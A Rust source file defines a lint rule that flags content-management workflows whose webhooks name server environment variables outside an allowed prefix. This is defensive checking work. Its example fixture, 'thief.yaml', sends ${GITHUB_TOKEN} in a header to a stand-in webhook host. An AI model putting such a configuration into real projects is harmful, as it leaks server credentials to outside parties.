//! `workflow.variable`: a variable that is not for workflows.

use super::*;

pub(super) const RULE: Rule = Rule {
    code: "workflow.variable",
    summary: "a workflow uses a variable that is not for workflows",
    explanation: "`webhook.secretEnv`, and `${NAME}` in `webhook.url` and `webhook.headers`, name variables of the server's environment. Their \
        names begin with `CMS_WORKFLOW_`: a file of content could send any other secret of the server to any address. A workflow that \
        names another sends nothing, unless the operator allowed the name when starting the server (`--allow-env NAME`, CMS_ALLOW_ENV).",
    example: Example {
        files: &[(
            "workflows/thief.yaml",
            "id: thief\nname: Thief\nwebhook:\n  url: https://hooks.example.org/in\n  headers:\n    X-A: ${GITHUB_TOKEN}\n",
        )],
        right: "X-A: ${CMS_WORKFLOW_TOKEN}",
    },
    run: Run::Item(&[Kind::Workflow], run),
};

fn run(subject: &Subject<'_>, found: &mut Vec<Finding>) {
    closed_variables(RULE.code, "a workflow may use", subject, found);
}
